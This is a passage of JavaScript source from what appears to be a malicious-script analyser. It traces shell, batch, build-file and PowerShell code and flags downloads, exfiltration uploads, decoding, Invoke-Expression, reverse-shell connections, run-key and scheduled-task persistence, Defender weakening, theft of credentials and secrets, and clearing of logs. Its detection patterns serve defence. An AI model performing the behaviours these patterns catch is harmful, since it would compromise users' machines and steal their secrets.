    return new ShellRun(reading).words(args, stdin, place, stdin !== NOTHING, []);
}
class ShellRun {
    variables = new Map();
    #functions = new Map();
    #reading;
    #entered = new Map();
    #calls = 0;
    #steps = 0;
    /** The second to the last commands of a pipe have input. */
    #input = NOTHING;
    constructor(reading) {
        this.#reading = reading;
    }
    follow(pipelines, stdin) {
        if (this.#calls >= MAX_CALLS) {
            this.#reading.trace.truncated = true;
            return UNKNOWN;
        }
        this.#calls += 1;
        const outer = this.#input;
        this.#input = stdin;
        const outputs = pipelines.map((pipeline) => this.#pipeline(pipeline, stdin));
        this.#input = outer;
        this.#calls -= 1;
        return joinOutputs(outputs);
    }
    substitute(pipelines) {
        return this.follow(pipelines, NOTHING);
    }
    readVariable(name, raw, word) {
        if (!SECRET_NAME.test(name))
            return derived(NO_ORIGINS, raw);
        const deed = this.#reading.note({
            kind: 'read',
            start: word.start,
            end: word.end,
            name: '$',
            target: name,
            subject: 'environment-variable',
        });
        return derived(plus(NO_ORIGINS, deed), raw);
    }
    #pipeline(pipeline, stdin) {
        this.#steps += 1;
        if (this.#steps > 40_000) {
            this.#reading.trace.truncated = true;
            return UNKNOWN;
        }
        const background = pipeline.separator === '&' ? ['background'] : [];
        let flowing = stdin;
        for (const [index, command] of pipeline.commands.entries())
            flowing = this.#command(command, flowing, index > 0 || stdin !== NOTHING, background);
        noteShellBetweenPeers(pipeline, this.#reading);
        return flowing;
    }
    #command(command, stdin, piped, flags) {
        const silent = hidesOutput(command) ? [...flags, 'hidden-output'] : flags;
        const input = applyInput(command.redirects, stdin, (word) => this.#one(word), this.#reading);
        const hasInput = piped || input !== stdin;
        noteShellOnDevice(command, this.#reading);
        const result = this.#result(command, input, hasInput, silent);
        return applyOutput(command.redirects, result, (word) => this.#one(word), this.#reading, { start: command.start, end: command.end });
    }
    #result(command, input, hasInput, flags) {
        for (const assignment of command.assignments)
            this.#assign(assignment);
        if (command.shape === 'function') {
            this.#functions.set(command.name, command.body);
            noteForkBomb(command, this.#reading);
            this.variables.set('1', derived(NO_ORIGINS, '$1'));
            this.follow(command.body, NOTHING);
            return NOTHING;
        }
        if (command.shape === 'loop') {
            const items = concat(expandWords(command.words, this), ' ');
            if (command.name !== '')
                this.variables.set(command.name, command.words.length === 1 ? items : derived(items.origins, `$${command.name}`));
            return this.follow(command.body, input);
        }
        if (command.shape === 'group')
            return this.follow(command.body, input);
        if (command.words.length === 0)
            return hasInput ? input : NOTHING;
        return this.words(expandWords(command.words, this), input, { start: command.start, end: command.end }, hasInput, flags);
    }
    words(words, stdin, place, hasInput, flags) {
        const [first, ...args] = words;
        if (!first)
            return NOTHING;
        const own = this.#functions.get(first.text);
        if (own && this.#entries(first.text) <= MAX_ENTRIES) {
            for (const [index, arg] of args.entries())
                this.variables.set(String(index + 1), arg);
            this.variables.set('@', concat(args, ' '));
            return this.follow(own, stdin);
        }
        if (own)
            return derived(originsOf(args));
        const disguised = first.disguised;
        const call = {
            name: commandName(first.text),
            args,
            stdin,
            hasInput,
            place,
            flags: disguised && !flags.includes('disguised') ? [...flags, 'disguised'] : flags,
            reading: this.#reading,
            run: (inner, input, more = []) => this.words(inner, input, place, true, [...flags, ...more]),
            variable: (name) => this.variables.get(name),
            setVariable: (name, value) => {
                this.variables.set(name, value);
            },
        };
        return readCommand(call, first);
    }
    /** Counts how often a function was entered: one that calls itself, or that is called again and again, is not followed for ever. */
    #entries(name) {
        const count = (this.#entered.get(name) ?? 0) + 1;
        this.#entered.set(name, count);
        return count;
    }
    #assign(assignment) {
        if (this.variables.size > 2000)
            return UNKNOWN;
        const value = this.#one(assignment.value);
        const before = assignment.append ? this.variables.get(assignment.name) : undefined;
        this.variables.set(assignment.name, before ? concat([before, value]) : value);
        return value;
    }
    /** A word as one value: no splitting, as in assignments and redirections. */
    #one(word) {
        const values = expandWord(word, this);
        return values.length === 1 && values[0]
            ? values[0]
            : { ...concat(values, ' '), origins: values.reduce((origins, value) => union(origins, value.origins), NO_ORIGINS) };
    }
}
/** `/usr/bin/curl` and `curl.exe` are `curl`. Paths into the bundle or a temporary folder keep theirs. */
function commandName(text) {
    const name = /^(?:\/(?:usr\/)?(?:local\/)?s?bin\/|\/opt\/homebrew\/bin\/|[A-Za-z]:\\Windows\\(?:System32|SysWOW64)\\)([\w.+-]{1,60})$/iu.exec(text)?.[1] ?? text;
    return /[\\/]/u.test(name) ? name : name.replace(/\.exe$/iu, '');
}
function hidesOutput(command) {
    return command.redirects.some((redirect) => {
        const [part] = redirect.target.parts;
        return (redirect.operator.includes('>') &&
            part?.kind === 'text' &&
            /^(?:\/dev\/null|NUL|nul|\$null)$/u.test(part.text) &&
            redirect.descriptor !== 2);
    });
}

;// CONCATENATED MODULE: ./lib/skills/code/batch/run.js



const MAX_LINES = 20_000;
/** Follows a batch file of Windows line by line: variables, carets, pipes and `&` are understood. */
function followBatch(text, reading) {
    const variables = new Map();
    let at = 0;
    for (let count = 0; at < text.length && count < MAX_LINES; count += 1) {
        const end = run_endOfLine(text, at);
        followLine(text.slice(at, end), at, variables, reading);
        at = end + 1;
    }
    if (at < text.length)
        reading.trace.truncated = true;
    return NOTHING;
}
/** A caret at the end continues a line. */
function run_endOfLine(text, from) {
    let end = text.indexOf('\n', from);
    while (end > from && (text[end - 1] === '^' || (text[end - 1] === '\r' && text[end - 2] === '^')))
        end = text.indexOf('\n', end + 1);
    return end === -1 ? text.length : end;
}
function followLine(line, start, variables, reading) {
    const plain = line.trim().replace(/^@+/u, '');
    if (/^(?:rem\b|::|:[A-Za-z]|$)/iu.test(plain))
        return;
    const assigned = /^set\s+"?([\w$.-]{1,80})=([^"]{0,4000})"?$/iu.exec(plain.slice(0, 4200));
    if (assigned) {
        if (variables.size < 1000)
            variables.set((assigned[1] ?? '').toLowerCase(), expanded(assigned[2] ?? '', variables));
        return;
    }
    const disguised = /[A-Za-z]\^[A-Za-z]/u.test(plain);
    const place = { start, end: start + line.length };
    const text = expanded(plain.slice(0, 20_000), variables).replace(/\^\r?\n?/gu, '');
    for (const command of splitOutside(text, /&&|\|\||&/uy)) {
        let flowing = NOTHING;
        for (const stage of splitOutside(command, /\|/uy))
            flowing = followStage(stage, flowing, place, reading);
    }
    if (disguised)
        reading.note({ kind: 'execute', ...place, name: 'cmd', target: text.slice(0, 300), flags: ['disguised'] });
}
function followStage(stage, input, place, reading) {
    const redirect = /(?:^|\s)\d?(>>?)\s*("[^"]{1,300}"|[^\s>&|]{1,300})\s*(?:2>&1)?\s*$/u.exec(stage);
    const body = redirect ? stage.slice(0, redirect.index) : stage;
    const words = (body.match(/"[^"]{0,4000}"|[^\s"]{1,4000}/gu) ?? [])
        .slice(0, 200)
        .map((word) => literal(word.replace(/^"(.*)"$/su, '$1')));
    while (/^(?:if|not|exist|else|do|call|\(|\))$/iu.test(words[0]?.text ?? ''))
        words.shift();
    const printed = words.length === 0
        ? NOTHING
        : words[0]?.text.toLowerCase() === 'echo'
            ? literal(words
                .slice(1)
                .map((word) => word.text)
                .join(' '))
            : followWords(words, input, place, reading);
    const target = redirect?.[2]?.replace(/"/gu, '');
    if (target === undefined || /^nul$/iu.test(target))
        return printed;
    reading.writePath(derived(NO_ORIGINS, target), printed, '>', place, redirect?.[1] === '>>' ? ['append'] : []);
    return NOTHING;
}
/** `%NAME%`, `%NAME:~0,1%`: pieces of variables are how commands are hidden in batch files. */
function expanded(text, variables) {
    return text.replace(/%([\w$.-]{1,80})(?::~(-?\d{1,4})(?:,(-?\d{1,4}))?)?%/gu, (whole, name, from, length) => {
        const value = variables.get(name.toLowerCase());
        if (value === undefined)
            return whole;
        if (from === undefined)
            return value;
        const cut = value.slice(Number(from));
        return length === undefined ? cut : cut.slice(0, Number(length));
    });
}
/** Splits at a separator outside double quotes. */
function splitOutside(text, separator) {
    const pieces = [];
    let quoted = false;
    let start = 0;
    for (let at = 0; at < text.length; at += 1) {
        if (text[at] === '"')
            quoted = !quoted;
        if (quoted)
            continue;
        separator.lastIndex = at;
        const found = separator.exec(text);
        if (!found)
            continue;
        pieces.push(text.slice(start, at));
        at += found[0].length - 1;
        start = at + 1;
    }
    pieces.push(text.slice(start));
    return pieces.filter((piece) => piece.trim() !== '');
}

;// CONCATENATED MODULE: ./lib/skills/code/build-files.js

/** Recipes of a makefile: the lines that start with a tab, and `$(shell …)`. */
function followMakefile(text, reading) {
    eachLogicalLine(text, (line, start) => {
        const recipe = /^\t[ \t]*[-@+]{0,3}/u.exec(line);
        if (recipe)
            followAt(line.slice(recipe[0].length).replace(/\$\$/gu, '$'), start + recipe[0].length, start + line.length, reading);
        for (const call of line.matchAll(/\$\(shell ([^()]{1,500})\)/gu))
            followAt(call[1] ?? '', start + call.index, start + call.index + call[0].length, reading);
    });
    return NOTHING;
}
/** `RUN` lines of a Dockerfile, in the shell form; the list form is joined. */
function followDockerfile(text, reading) {
    eachLogicalLine(text, (line, start) => {
        const run = /^\s{0,20}(?:RUN|CMD|ENTRYPOINT)\s{1,20}(?:--\S{1,200}\s{1,20}){0,6}/iu.exec(line);
        const rest = run ? line.slice(run[0].length) : '';
        const list = /^\[.*\]\s*$/su.test(rest) ? rest.replace(/^\[|\]\s*$|",?/gu, ' ').replace(/"/gu, '') : rest;
        if (run)
            followAt(list, start + run[0].length, start + line.length, reading);
    });
    return NOTHING;
}
/** `do shell script "…"` of AppleScript; its texts escape with a back slash. */
function followAppleScript(text, reading) {
    for (const call of text.matchAll(/do shell script\s{1,20}"((?:[^"\\]|\\.){1,8000})"/gsu)) {
        followAt((call[1] ?? '').replace(/\\(.)/gsu, (_whole, unit) => (unit === 'n' ? '\n' : unit)), call.index, call.index + call[0].length, reading);
    }
    if (/\bthe clipboard\b/u.test(text)) {
        const at = text.indexOf('the clipboard');
        reading.note({ kind: 'read', start: at, end: at + 13, name: 'the clipboard', subject: 'clipboard' });
    }
    return NOTHING;
}
function followAt(code, start, end, reading) {
    if (code.trim() !== '')
        reading.nested('shell', literal(code), { start, end });
}
/** Lines, with those that end in a back slash joined to the next. */
function eachLogicalLine(text, visit) {
    let at = 0;
    while (at < text.length) {
        let end = text.indexOf('\n', at);
        while (end > at && text[end - 1] === '\\')
            end = text.indexOf('\n', end + 1);
        const stop = end === -1 ? text.length : end;
        visit(text.slice(at, stop), at);
        at = stop + 1;
    }
}

;// CONCATENATED MODULE: ./lib/skills/code/powershell/methods.js



/** Calls of .NET methods: downloads, uploads, decoders, files, connections. Others pass on what goes in. */
function callMethod(run, name, receiver, args, place) {
    const [first, second] = args;
    const method = name.replace(/^\[.*\]::/u, '');
    switch (method) {
        case 'downloadstring':
        case 'downloaddata':
        case 'openread':
        case 'getstringasync':
        case 'getasync':
            return run.reading.request({ name: 'WebClient', address: first ?? UNKNOWN, payload: [], sends: false }, place);
        case 'downloadfile':
            run.reading.writePath(second ?? UNKNOWN, run.reading.request({ name: 'WebClient', address: first ?? UNKNOWN, payload: [], sends: false }, place), 'DownloadFile', place);
            return NOTHING;
        case 'uploadstring':
        case 'uploaddata':
        case 'uploadfile':
        case 'uploadvalues':
        case 'postasync': {
            const payload = method === 'uploadfile' ? args.slice(1).map((arg) => run.reading.readPath(arg, 'UploadFile', place)) : args.slice(1);
            return run.reading.request({ name: 'WebClient', address: first ?? UNKNOWN, payload, sends: true }, place);
        }
        case 'frombase64string':
            return decoded(run, 'base64', first, base64, place);
        case 'fromhexstring':
            return decoded(run, 'hex', first, hex, place);
        case 'getstring':
            return first?.known === true ? literal(utf16(first.text) ?? first.text, first.origins) : derived(originsOf(args));
        case 'tobase64string':
            return derived(plus(originsOf(args), run.reading.note({ kind: 'encode', ...place, name: 'ToBase64String', target: 'base64', flowsFrom: originsOf(args) })));
        case 'create':
            return name.includes('scriptblock') ? { ...(first ?? UNKNOWN), ref: 'scriptblock' } : derived(originsOf([receiver, ...args]));
        default:
            return callOther(run, name, method, receiver, args, place);
    }
}
function callOther(run, name, method, receiver, args, place) {
    const [first, second] = args;
    switch (method) {
        case 'invoke':
        case 'invokescript':
        case 'load':
        case 'invokereturnasis':
            if (method === 'load' && !name.includes('assembly'))
                return derived(originsOf([receiver, ...args]));
            return methods_evaluate(run, method === 'invokescript' || method === 'load' ? (first ?? UNKNOWN) : receiver, place);
        case 'readalltext':
        case 'readallbytes':
        case 'readalllines':
            return run.reading.readPath(first ?? UNKNOWN, 'File', place);
        case 'writealltext':
        case 'writeallbytes':
        case 'appendalltext':
            run.reading.writePath(first ?? UNKNOWN, second ?? UNKNOWN, 'File', place, method.startsWith('append') ? ['append'] : []);
            return NOTHING;
        case 'getenvironmentvariables':
            return derived(plus(NO_ORIGINS, run.reading.note({ kind: 'read', ...place, name: 'Environment', subject: 'environment', target: 'GetEnvironmentVariables' })));
        case 'replace':
            return receiver.known && first?.known === true && second?.known === true
                ? literal(receiver.text.split(first.text).join(second.text), union(receiver.origins, originsOf(args)))
                : derived(originsOf([receiver, ...args]));
        case 'reverse':
            return first?.known === true ? literal(reversed(first.text) ?? '', first.origins) : derived(originsOf(args));
        case 'join':
            return second?.items ? concat(second.items, first?.text ?? '') : concat(args);
        case 'write':
            if (receiver.ref === 'tcpclient' || run.peer.text !== '')
                return sendToPeer(run, args, place);
            return NOTHING;
        case 'tochararray':
        case 'tostring':
        case 'trim':
        case 'getbytes':
            return first && receiver.text === '' ? first : { ...receiver, origins: union(receiver.origins, originsOf(args)) };
        case 'new':
            return /gzipstream|deflatestream/u.test(name)
                ? decoded(run, 'deflate', first, inflate, place)
                : /tcpclient|clientwebsocket/u.test(name)
                    ? run.connect(first ?? UNKNOWN, place)
                    : (first ?? UNKNOWN);
        default:
            return { ...derived(originsOf([receiver, ...args])), ...(receiver.ref === undefined ? {} : { ref: receiver.ref }) };
    }
}
function sendToPeer(run, args, place) {
    const origins = originsOf(args);
    run.reading.note({
        kind: 'send',
        ...place,
        name: 'Stream.Write',
        target: run.peer.text,
        host: 'variable',
        flags: ['body'],
        flowsFrom: origins,
    });
    return NOTHING;
}
function decoded(run, codec, data, decoder, place) {
    const origins = data?.origins ?? NO_ORIGINS;
    const all = plus(origins, run.reading.note({ kind: 'decode', ...place, name: codec, target: codec, flowsFrom: origins }));
    const text = data?.known === true ? decoder(data.text) : undefined;
    return text === undefined ? derived(all) : literal(text, all);
}
/** Code in a value: noted, and followed when its text is known. */
function methods_evaluate(run, code, place) {
    run.reading.note({ kind: 'evaluate', ...place, name: 'Invoke-Expression', target: code.text, flowsFrom: code.origins });
    if (run.peer.text !== '' && code.origins.some((origin) => run.reading.trace.behaviours[origin]?.name === 'TCPClient')) {
        run.reading.note({ kind: 'connect-shell', ...place, name: 'TCPClient', target: run.peer.text, flowsFrom: code.origins });
    }
    return code.known && code.text !== ''
        ? run.reading.nested('powershell', code, place, code.exact === undefined ? {} : { exact: code.exact })
        : derived(code.origins);
}

;// CONCATENATED MODULE: ./lib/skills/code/powershell/cmdlets.js





/** A parameter by its name, an abbreviation of it, or its position. */
function parameter(call, position, ...names) {
    for (const [given, value] of call.named)
        if (names.some((name) => name.startsWith(given) && given.length > 1))
            return value;
    return call.positional[position] ?? (position === 0 && call.input !== NOTHING ? call.input : UNKNOWN);
}
function isSet(call, name) {
    for (const given of call.named.keys())
        if (name.startsWith(given) && given.length > 1)
            return true;
    return false;
}
function cmdlets_all(call) {
    return [...call.positional, ...call.named.values(), call.input];
}
const request = (call) => {
    const address = parameter(call, 0, 'uri', 'url');
    const file = call.named.get('infile');
    const payload = [
        ...['body', 'form', 'headers'].map((name) => parameter({ ...call, positional: [], input: NOTHING }, 9, name)),
        ...(file ? [call.run.reading.readPath(file, call.name, call.place)] : []),
    ];
    const sends = /post|put/iu.test(call.named.get('method')?.text ?? '') || isSet(call, 'body') || file !== undefined;
    const answer = call.run.reading.request({ name: call.name, address, payload, sends, flags: call.flags }, call.place);
    const out = call.named.get('outfile') ?? call.named.get('out') ?? call.named.get('o');
    if (!out)
        return answer;
    call.run.reading.writePath(out, answer, call.name, call.place);
    return NOTHING;
};
const transfer = (call) => {
    const answer = call.run.reading.request({ name: call.name, address: parameter(call, 0, 'source'), payload: [], sends: false, flags: call.flags }, call.place);
    call.run.reading.writePath(parameter(call, 1, 'destination'), answer, call.name, call.place);
    return NOTHING;
};
const startProcess = (call) => {
    const file = parameter(call, 0, 'filepath');
    const args = parameter(call, 1, 'argumentlist', 'args');
    const hidden = /hidden/iu.test(call.named.get('windowstyle')?.text ?? '') ? ['hidden-output'] : [];
    const written = call.run.reading.files.get(file.text);
    const line = `${file.text} ${args.text}`.trim();
    call.run.reading.note({
        kind: 'execute',
        ...call.place,
        name: call.name,
        target: line,
        flags: hidden,
        flowsFrom: union(originsOf([file, args]), written?.origins ?? NO_ORIGINS),
    });
    if (/^(?:powershell|pwsh|cmd|mshta|wscript)(?:\.exe)?$/iu.test(file.text) && args.text !== '')
        call.run.reading.nested('shell', literal(`${file.text} ${args.text}`, args.origins), call.place);
    return NOTHING;
};
const readContent = (call) => {
    const path = parameter(call, 0, 'path', 'literalpath');
    return call.run.reading.readPath(path, call.name, call.place);
};
const list = (call) => {
    const path = parameter(call, 0, 'path', 'literalpath');
    if (/^env:/iu.test(path.text))
        return derived(plus(NO_ORIGINS, call.run.reading.note({ kind: 'read', ...call.place, name: call.name, subject: 'environment', target: 'Env:' })));
    return call.run.reading.readPath(path, call.name, call.place, isSet(call, 'recurse') ? ['recursive'] : []);
};
const writeContent = (call) => {
    const path = parameter(call, 0, 'path', 'filepath', 'literalpath');
    const content = call.named.get('value') ?? call.positional[1] ?? call.input;
    call.run.reading.writePath(path, content, call.name, call.place, /^(?:add-content|ac)$/iu.test(call.name) || isSet(call, 'append') ? ['append'] : []);
    return NOTHING;
};
const cmdlets_remove = (call) => {
    const path = parameter(call, 0, 'path', 'literalpath');
    const history = classifyPath(path.text).subject === 'shell-history';
    call.run.reading.note({
        kind: history ? 'conceal' : 'delete',
        ...call.place,
        name: call.name,
        target: path.text,
        flags: isSet(call, 'recurse') || call.named.has('r') ? ['recursive'] : [],
        flowsFrom: path.origins,
    });
    return NOTHING;
};
const registry = (call) => {
    const path = parameter(call, 0, 'path');
    const line = concat(cmdlets_all(call), ' ').text;
    const run = classifyPath(path.text).persistence === 'run-key' || /\\CurrentVersion\\Run/iu.test(line);
    if (run)
        call.run.reading.note({
            kind: 'persist',
            ...call.place,
            name: call.name,
            persistence: 'run-key',
            target: line,
            flowsFrom: originsOf(cmdlets_all(call)),
        });
    else
        call.run.reading.note({ kind: 'execute', ...call.place, name: call.name, target: line });
    return NOTHING;
};
const task = (call) => {
    const values = cmdlets_all(call);
    call.run.reading.note({
        kind: 'persist',
        ...call.place,
        name: call.name,
        persistence: 'scheduled-task',
        target: concat(values, ' ').text,
        flowsFrom: originsOf(values),
    });
    return NOTHING;
};
const newObject = (call) => {
    const type = parameter(call, 0, 'typename').text.toLowerCase();
    const args = call.positional.slice(1).concat(call.named.get('argumentlist') ?? []);
    const [first] = args[0]?.items ?? args;
    if (/tcpclient|udpclient/u.test(type))
        return call.run.connect(first ?? UNKNOWN, call.place);
    if (/gzipstream|deflatestream/u.test(type)) {
        const origins = originsOf(args);
        const deed = call.run.reading.note({ kind: 'decode', ...call.place, name: type, target: 'deflate', flowsFrom: origins });
        const text = first?.known === true ? inflate(first.text) : undefined;
        return text === undefined ? derived(plus(origins, deed)) : literal(text, plus(origins, deed));
    }
    return { ...(first ?? UNKNOWN), origins: originsOf(args), ref: type };
};
const weaken = (call) => {
    const line = `${call.name} ${[...call.named.keys()].map((name) => `-${name}`).join(' ')} ${concat(cmdlets_all(call), ' ').text}`;
    if (/mppreference/iu.test(call.name) && /exclusion|disable/iu.test(line))
        call.run.reading.note({ kind: 'weaken', ...call.place, name: call.name, target: line });
    else
        call.run.reading.note({ kind: 'execute', ...call.place, name: call.name, target: line });
    return NOTHING;
};
const reveal = (subject) => (call) => derived(plus(NO_ORIGINS, call.run.reading.note({ kind: 'read', ...call.place, name: call.name, subject, target: call.name })));
const clearHistory = (call) => {
    call.run.reading.note({ kind: 'conceal', ...call.place, name: call.name, target: call.name });
    return NOTHING;
};
const archive = (call) => {
    const read = call.run.reading.readPath(parameter(call, 0, 'path'), call.name, call.place, ['recursive']);
    call.run.reading.writePath(parameter(call, 1, 'destinationpath'), read, call.name, call.place);
    return NOTHING;
};
const extract = (call) => {
    const path = parameter(call, 0, 'path', 'literalpath');
    const origins = call.run.reading.files.get(path.text)?.origins ?? NO_ORIGINS;
    if (origins.length > 0)
        call.run.reading.files.set('*extracted*', { origins, text: undefined });
    return NOTHING;
};
const pass = (call) => ({
    ...(call.input === NOTHING ? (call.positional[0] ?? UNKNOWN) : derived(call.input.origins, call.input.text)),
    origins: originsOf(cmdlets_all(call)),
});
const execute = (call) => methods_evaluate(call.run, parameter(call, 0, 'command', 'scriptblock'), call.place);
const CMDLETS = new Map([
    ['invoke-webrequest iwr wget curl invoke-restmethod irm', request],
    ['start-bitstransfer', transfer],
    ['invoke-expression iex invoke-command icm', execute],
    ['start-process saps start invoke-item ii', startProcess],
    ['get-content gc cat type', readContent],
    ['get-childitem gci dir ls', list],
    ['get-item gi', list],
    ['set-content sc out-file add-content ac tee-object new-item ni', writeContent],
    ['remove-item ri rm del erase rd rmdir', cmdlets_remove],
    ['new-itemproperty set-itemproperty sp', registry],
    ['register-scheduledtask new-scheduledtaskaction register-scheduledjob', task],
    ['new-object', newObject],
    ['set-mppreference add-mppreference set-executionpolicy set-netfirewallprofile', weaken],
    ['get-clipboard', reveal('clipboard')],
    ['get-history', reveal('shell-history')],
    ['get-credential get-storedcredential get-secret', reveal('keychain')],
    ['whoami hostname get-computerinfo', reveal('machine-identity')],
    ['clear-history clear-eventlog', clearHistory],
    ['compress-archive', archive],
    ['expand-archive', extract],
    [
        'convertto-json convertfrom-json out-string select-object select foreach-object foreach % ? where-object where sort-object write-output echo join-path resolve-path convertto-csv select-string measure-object get-itemproperty format-list',
        pass,
    ],
    [
        'write-host write-verbose write-warning import-module set-location cd push-location pop-location test-path out-null set-strictmode param start-sleep sleep get-command get-date split-path read-host clear-host exit',
        () => NOTHING,
    ],
].flatMap(([names, cmdlet]) => names.split(' ').map((name) => [name, cmdlet])));

;// CONCATENATED MODULE: ./lib/skills/code/powershell/split.js
const OPEN = '([{';
const CLOSE = ')]}';
/** The offset after a quoted text, a here-string or a comment that starts at an offset; the offset itself when none does. */
function skipQuoted(text, at, end) {
    const unit = text[at];
    if (unit === '@' && (text[at + 1] === '"' || text[at + 1] === "'")) {
        const close = text.indexOf(`\n${text[at + 1] ?? ''}@`, at + 2);
        return close === -1 || close > end ? at + 2 : close + 3;
    }
    if (unit === '<' && text[at + 1] === '#') {
        const close = text.indexOf('#>', at + 2);
        return close === -1 || close > end ? end : close + 2;
    }
    if (unit === '#' && (at === 0 || /[\s;({]/u.test(text[at - 1] ?? ' '))) {
        const close = text.indexOf('\n', at);
        return close === -1 || close > end ? end : close;
    }
    if (unit !== '"' && unit !== "'")
        return at;
    const limit = Math.min(end, at + 400_000);
    for (let index = at + 1; index < limit; index += 1) {
        const inner = text[index];
        if (inner === '`' && unit === '"')
            index += 1;
        else if (inner === unit) {
            if (text[index + 1] === unit)
                index += 1;
            else
                return index + 1;
        }
    }
    return at + 1;
}
/** Splits a range at separators that stand outside quotes and brackets. Linear in the range. */
function splitRange(text, range, separates) {
    const pieces = [];
    let depth = 0;
    let start = range.start;
    for (let at = range.start; at < range.end;) {
        const skipped = skipQuoted(text, at, range.end);
        if (skipped > at) {
            at = skipped;
            continue;
        }
        const unit = text.charAt(at);
        if (unit === '`') {
            at += text[at + 1] === '\r' ? 3 : 2;
            continue;
        }
        if (OPEN.includes(unit))
            depth += 1;
        else if (CLOSE.includes(unit))
            depth = Math.max(0, depth - 1);
        const width = depth === 0 ? separates(text, at) : 0;
        if (width > 0) {
            if (at > start)
                pieces.push({ start, end: at });
            at += width;
            start = at;
        }
        else
            at += 1;
    }
    if (range.end > start)
        pieces.push({ start, end: range.end });
    return pieces;
}
/** Statements: separated by line ends, semicolons, `&&` and `||`. */
function statementsOf(text, range) {
    return splitRange(text, range, (whole, at) => {
        const unit = whole[at];
        if (unit === ';')
            return 1;
        if (unit === '\n')
            return endsInPipe(whole, at) ? 0 : 1;
        return (unit === '&' && whole[at + 1] === '&') || (unit === '|' && whole[at + 1] === '|') ? 2 : 0;
    });
}
function endsInPipe(text, at) {
    const before = text.slice(Math.max(0, at - 40), at).trimEnd();
    return /[|,+]$|\s=$/u.test(before) || /^\s*\|/u.test(text.slice(at + 1, at + 40));
}
function stagesOf(text, range) {
    return splitRange(text, range, (whole, at) => (whole[at] === '|' ? 1 : 0));
}
/** Words of a command: separated by white space. */
function wordsOf(text, range) {
    return splitRange(text, range, (whole, at) => (/\s/u.test(whole.charAt(at)) ? 1 : 0)).filter((word) => text.slice(word.start, word.end).trim() !== '');
}
function commasOf(text, range) {
    return splitRange(text, range, (whole, at) => (whole[at] === ',' ? 1 : 0));
}
/** For each opening bracket outside quotes the offset of the one that closes it; one pass over the text. */
function bracketPairs(text) {
    const pairs = new Map();
    const open = [];
    for (let at = 0; at < text.length;) {
        const skipped = skipQuoted(text, at, text.length);
        if (skipped > at) {
            at = skipped;
            continue;
        }
        const unit = text.charAt(at);
        if (OPEN.includes(unit))
            open.push(at);
        else if (CLOSE.includes(unit)) {
            const opening = open.pop();
            if (opening !== undefined)
                pairs.set(opening, at);
        }
        at += unit === '`' ? 2 : 1;
    }
    return pairs;
}
/** A range without the white space around it. */
function trimmed(text, range) {
    let { start, end } = range;
    while (start < end && /\s/u.test(text.charAt(start)))
        start += 1;
    while (end > start && /\s/u.test(text.charAt(end - 1)))
        end -= 1;
    return { start, end };
}

;// CONCATENATED MODULE: ./lib/skills/code/powershell/run.js







/** Parameters that take no value. */
const SWITCHES = /^(?:usebasicparsing|usebasic|recurse|force|raw|noprofile|passthru|append|asjob|wait|nonewline|asplaintext|hidden|file|directory|whatif|verbose|quiet|skipcertificatecheck)$/iu;
const run_MAX_DEPTH = 30;
const MAX_STEPS = 60_000;
/** Follows PowerShell text and notes what it does. */
function followPowerShell(text, reading) {
    return new PowerShellRun(text, reading).follow({ start: 0, end: text.length });
}
class PowerShellRun {
    text;
    reading;
    variables = new Map();
    peer = UNKNOWN;
    #pairs;
    #depth = 0;
    #steps = 0;
    constructor(text, reading) {
        this.text = text;
        this.reading = reading;
        this.#pairs = bracketPairs(text);
    }
    /** The closing bracket within a range, or -1. */
    #closing(at, end) {
        const close = this.#pairs.get(at);
        return close !== undefined && close < end ? close : -1;
    }
    follow(range) {
        if (this.#depth >= run_MAX_DEPTH || this.#steps > MAX_STEPS) {
            this.reading.trace.truncated = true;
            return UNKNOWN;
        }
        this.#depth += 1;
        let last = NOTHING;
        for (const statement of statementsOf(this.text, range))
            last = this.#statement(trimmed(this.text, statement));
        this.#depth -= 1;
        return last;
    }
    #statement(range) {
        this.#steps += 1;
        const source = this.text.slice(range.start, Math.min(range.end, range.start + 300));
        const assignment = /^(?:\[[\w.[\]]{1,60}\]\s{0,4})?\$(?:(?:global|script|local|env):)?([\w:]{1,80})\s{0,20}([+]?)=(?!=)/iu.exec(source);
        if (assignment)
            return this.#assign(assignment, range);
        let piped = NOTHING;
        for (const [index, stage] of stagesOf(this.text, range).entries())
            piped = this.#command(trimmed(this.text, stage), piped, index > 0 ? 'piped' : 'first');
        return piped;
    }
    #assign(assignment, range) {
        const name = (assignment[1] ?? '').toLowerCase();
        const value = this.#statement(trimmed(this.text, { start: range.start + assignment[0].length, end: range.end }));
        const before = assignment[2] === '+' ? this.variables.get(name) : undefined;
        const result = before ? concat([before, value]) : value;
        if (this.variables.size < 2000)
            this.variables.set(name, result);
        return result;
    }
    #command(range, input, position) {
        if (range.end <= range.start)
            return NOTHING;
        const head = this.text.slice(range.start, Math.min(range.end, range.start + 400));
        const opener = /^(?:if|elseif|else|foreach|for|while|do|try|catch|finally|switch|function|filter|param|begin|process|end|trap|return)\b/iu.exec(head);
        if (opener)
            return this.#compound(range, opener[0].length);
        if (/^[&.]\s*[^\s./\\]/u.test(head) && !/^\.\\|^\.\//u.test(head))
            return this.#invoke({ start: range.start + 1, end: range.end }, input);
        if (/^[A-Za-z%?.\\/][\w`^.:\\/+%-]{0,200}/u.test(head) && !/^[A-Za-z]+\s*=/u.test(head))
            return this.#named(range, input, position);
        return this.expression(range, input);
    }
    /** Conditions and loops: everything within their brackets is followed once. */
    #compound(range, width) {
        let at = range.start + width;
        let last = NOTHING;
        while (at < range.end) {
            const unit = this.text.charAt(at);
            if (unit === '(' || unit === '{') {
                const close = this.#closing(at, range.end);
                if (close === -1)
                    break;
                const inside = this.text.slice(at + 1, Math.min(close, at + 80));
                const each = unit === '(' ? /^\s*\$(\w{1,60})\s+in\s/iu.exec(inside) : null;
                if (each)
                    this.variables.set((each[1] ?? '').toLowerCase(), this.expression({ start: at + 1 + each[0].length, end: close }, NOTHING));
                else
                    last = this.follow({ start: at + 1, end: close });
                at = close + 1;
            }
            else
                at += 1;
        }
        return width === 6 && last === NOTHING ? this.expression({ start: range.start + width, end: range.end }, NOTHING) : last;
    }
    /** `& command args`: what is called may be computed. */
    #invoke(range, input) {
        const words = wordsOf(this.text, trimmed(this.text, range));
        const [first, ...rest] = words;
        if (!first)
            return NOTHING;
        if (this.text[first.start] === '{')
            return this.follow({ start: first.start + 1, end: first.end - 1 });
        const target = this.expression(first, NOTHING);
        const flags = this.text[first.start] === '(' || this.text[first.start] === '$' ? ['disguised'] : [];
        if (!target.known && target.origins.length > 0) {
            this.reading.note({ kind: 'evaluate', ...first, name: '&', target: target.text, flowsFrom: target.origins });
            return derived(target.origins);
        }
